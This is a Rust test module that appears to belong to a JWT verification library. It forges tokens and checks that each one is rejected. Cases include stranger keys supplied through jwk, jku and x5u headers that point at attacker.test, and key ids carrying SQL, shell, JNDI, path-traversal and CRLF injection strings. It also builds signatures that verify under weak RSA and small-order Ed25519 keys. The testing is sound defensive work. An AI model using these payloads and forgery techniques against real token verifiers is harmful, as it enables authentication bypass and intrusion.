//! Keys: brought along by the token, called by another name, or published though nobody may use them.

use aws_lc_rs::digest::{SHA256, digest};
use linchpin_core::Reason::{AlgorithmNotAllowed, AmbiguousKey, BadSignature, MalformedHeader, UnknownKey};
use linchpin_jwt::{
    Algorithm::{self, *},
    SigningKey,
};
use serde_json::{Value, json};

use super::token;
use crate::{
    Attack, Scene,
    scene::{SECRET, SMALL_ORDER, WEAK_TOKEN},
    text::{decode, encode, hex, parts},
};

pub(super) fn attacks(scene: &Scene) -> Vec<Attack> {
    [brought_along(scene), key_ids(scene), collisions(scene), unfit(scene), forgeable(scene)].concat()
}

/// The stranger signs, and the header says where the stranger's key is to be found. The twin says the same, and is signed by
/// the issuer: members that nobody heeds are no reason to refuse.
fn brought_along(scene: &Scene) -> Vec<Attack> {
    let mut jwk = scene.stranger.public_jwk();
    jwk["kid"] = scene.jwk(ES256)["kid"].clone();
    let der = scene
        .stranger
        .public_pem()
        .unwrap_or_default()
        .lines()
        .filter(|l| !l.starts_with('-'))
        .collect::<String>();
    let members: [(&str, Value); 10] = [
        ("jwk", jwk.clone()),
        ("jwk", json!(jwk.to_string())),
        ("jwks", json!({"keys": [jwk]})),
        ("jku", json!("https://attacker.test/jwks.json")),
        ("jku", json!("https://issuer.test@attacker.test/jwks.json")),
        ("jku", json!("file:///dev/zero")),
        ("x5u", json!("https://attacker.test/cert.pem")),
        ("x5c", json!([der])),
        ("x5t", json!(encode([1; 20]))),
        ("x5t#S256", json!(encode([1; 32]))),
    ];
    let mut attacks = Vec::new();
    for (at, (member, value)) in members.into_iter().enumerate() {
        let with = |builder: linchpin_test::TokenBuilder<'_>| builder.header(member, value.clone()).sign();
        let forged = || scene.token().signed_by(&scene.stranger);
        let name = format!("a stranger's key in {member} (form {at}) under the issuer's key id");
        attacks.push(token(name, with(forged()), BadSignature, with(scene.token())));
        let name = format!("a stranger's key in {member} (form {at}) under its own key id");
        let forged = with(forged().key_id(scene.stranger.key_id()));
        attacks.push(token(name, forged, UnknownKey, with(scene.token())));
    }
    attacks
}

fn key_ids(scene: &Scene) -> Vec<Attack> {
    let own = scene.jwk(ES256)["kid"].as_str().unwrap_or_default();
    let strange = [
        ("a path", "../../../../dev/null".to_owned()),
        ("an absolute path", "/proc/sys/kernel/randomize_va_space".to_owned()),
        ("a URL", "https://attacker.test/key".to_owned()),
        ("SQL", "x' UNION SELECT 'AAAA' -- ".to_owned()),
        ("a shell command", "$(sleep 9) | `id`".to_owned()),
        ("a template", "${jndi:ldap://attacker.test/a}{{7*7}}".to_owned()),
        ("NUL", "\0".to_owned()),
        ("the right one and NUL", format!("{own}\0")),
        ("the right one and a space", format!("{own} ")),
        ("the right one in other case", own.chars().map(swap_case).collect()),
        ("the right one cut short", own[..own.len() - 1].to_owned()),
        ("the right one with a zero-width space", format!("{own}\u{200b}")),
        ("nothing", String::new()),
        ("line breaks", "a\r\nset-cookie: a=b".to_owned()),
        ("an overlong text", "k".repeat(8000)),
        ("a right-to-left override", "\u{202e}yek".to_owned()),
        ("a name that objects have", "__proto__".to_owned()),
    ];
    let attacks = strange.into_iter().map(|(what, kid)| {
        let name = format!("a key id that is {what}");
        // The twin carries the same text where it means nothing.
        let twin = scene.token().header("x", kid.as_str()).sign();
        token(name, scene.token().key_id(Some(&kid)).sign(), UnknownKey, twin)
    });
    let types = [json!(null), json!(0), json!(true), json!([own]), json!({"kid": own})].map(|kid| {
        let name = format!("a key id that is not a string: {}", kid.to_string().replace(own, "right"));
        token(name, scene.token().header("kid", kid).sign(), MalformedHeader, scene.good())
    });
    let others = [ES384, RS256, EdDSA].map(|other| {
        let kid = scene.jwk(other)["kid"].as_str();
        let name = format!("the key id of the key for {other} on an ES256 token");
        token(name, scene.token().key_id(kid).sign(), AlgorithmNotAllowed, scene.good())
    });
    let own_key = [token(
        "the key id of another key for ES256",
        scene.token().key_id(scene.own.key_id()).sign(),
        BadSignature,
        scene.exactly(&scene.header(""), &scene.payload("")),
    )];
    attacks.chain(types).chain(others).chain(own_key).collect()
}

fn collisions(scene: &Scene) -> Vec<Attack> {
    let signed = |key: &SigningKey, kid| scene.token().signed_by(key).key_id(kid).sign();
    let stranger = crate::scene::generate(EdDSA);
    let [first, second] = &scene.twice;
    vec![
        token(
            "a stranger under a key id that two keys have",
            signed(&stranger, Some("twice")),
            BadSignature,
            signed(second, Some("twice")),
        ),
        token(
            "one of two keys of a name, under a name in other case",
            signed(first, Some("Twice")),
            UnknownKey,
            signed(first, Some("twice")),
        ),
        token(
            "a key id that more keys have than are tried",
            signed(&scene.crowd, Some("crowd")),
            AmbiguousKey,
            scene.token().algorithm(ES384).sign(),
        ),
        token(
            "no key id, and more keys fit than are tried",
            scene.token().algorithm(ES384).key_id(None).sign(),
            AmbiguousKey,
            scene.token().algorithm(ES384).sign(),
        ),
        token(
            "a stranger without a key id",
            signed(&scene.stranger, None),
            BadSignature,
            scene.token().key_id(None).sign(),
        ),
    ]
}

/// Really signed, by keys that say themselves that they are not for this.
fn unfit(scene: &Scene) -> Vec<Attack> {
    let names =
        ["for-encryption", "for-signing", "for-another-algorithm", "for-a-forbidden-algorithm", "off-curve"];
    let mut attacks = Vec::from(names.map(|kid| {
        let forged = scene.token().signed_by(&scene.unfit).key_id(Some(kid)).sign();
        token(format!("a published key that does not count: {kid}"), forged, UnknownKey, scene.good())
    }));
    let secret = SigningKey::from_secret(HS256, &SECRET).expect("the secret is long enough");
    let forged = scene.token().signed_by(&secret).key_id(Some("secret")).sign();
    attacks.push(token("a secret among the published keys", forged, AlgorithmNotAllowed, scene.good()));
    attacks
}

/// Signatures that verify under the key, which is why the key must not be used.
fn forgeable(scene: &Scene) -> Vec<Attack> {
    let [header, payload, _] =
        parts(WEAK_TOKEN).map(decode).map(|part| String::from_utf8(part).unwrap_or_default());
    let same = |algorithm: Algorithm| scene.token().algorithm(algorithm).raw_payload(payload.clone()).sign();
    let forged = |algorithm: &str, kid: &str, sign: &dyn Fn(&[u8]) -> Vec<u8>| {
        let header = header.replace("RS256", algorithm).replace("weak", kid);
        let input = format!("{}.{}", encode(header), encode(&payload));
        let signature = sign(input.as_bytes());
        format!("{input}.{}", encode(signature))
    };
    let mut attacks = vec![
        token("an RSA key of 1024 bits", WEAK_TOKEN.to_owned(), UnknownKey, same(RS256)),
        token(
            "an RSA key with the exponent 1",
            forged("RS256", "exponent-one", &|input| pkcs1_padded(input)),
            UnknownKey,
            same(RS256),
        ),
    ];
    for (kid, _) in SMALL_ORDER {
        // R is the neutral point and S is zero.
        let signature = [&[1][..], &[0; 63]].concat();
        let name = format!("an Ed25519 key of small order: {kid}");
        attacks.push(token(name, forged("EdDSA", kid, &|_| signature.clone()), UnknownKey, same(EdDSA)));
    }
    attacks
}

/// The hash of the input as RSASSA-PKCS1-v1_5 pads it (RFC 8017 §9.2) for 2048 bits.
fn pkcs1_padded(input: &[u8]) -> Vec<u8> {
    let info = hex("3031300d060960864801650304020105000420");
    [&[0, 1][..], &[0xff; 202], &[0], &info, digest(&SHA256, input).as_ref()].concat()
}

fn swap_case(c: char) -> char {
    if c.is_ascii_lowercase() { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() }
}
